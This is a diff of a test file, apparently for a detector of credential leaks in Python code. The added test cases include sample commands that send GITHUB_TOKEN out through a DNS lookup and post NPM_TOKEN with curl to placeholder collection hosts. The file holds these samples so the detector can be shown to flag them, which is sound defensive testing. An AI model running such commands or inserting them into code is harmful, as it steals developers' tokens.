@@ -25,7 +25,15 @@ test.each([
 });
 
 test.each([
+  ['in a name that is looked up', 'import subprocess\nsubprocess.run(["nslookup", os.environ.get("GITHUB_TOKEN", "")[:50] + ".x.example.invalid"])'],
+  ['by a program', 'import subprocess\nsubprocess.run(["curl", "-d", os.environ["NPM_TOKEN"], "https://collect.example.invalid/"])'],
+])('the key to one service warns where it leaves %s to somebody else', async (_, text) => {
+  expect(await found(text)).toEqual(['medium, strong']);
+});
+
+test.each([
   ['one token of its own', 'requests.get(u, headers={"Authorization": os.environ["GARDEN_TOKEN"]})'],
+  ['one token that a program shows its own service', 'import subprocess\nsubprocess.run(["curl", "-H", os.environ["GITHUB_TOKEN"], "https://api.github.com/user"])'],
   ['a name and a password of one service', 'requests.get(u, auth=(os.environ["GARDEN_ACCESS_KEY_ID"], os.environ["GARDEN_PASSWORD"]))'],
   ['keys of several services, by functions that are called for it', 'def ask(url):\n    key = os.environ.get("OPENAI_API_KEY") or os.environ.get("ANTHROPIC_API_KEY")\n    requests.post(url, headers={"Authorization": key})'],
   ['a signature', 'import hmac\nrequests.get(u, headers={"A": hmac.new(os.environ["AWS_SECRET_ACCESS_KEY"].encode(), b"x").hexdigest()})'],
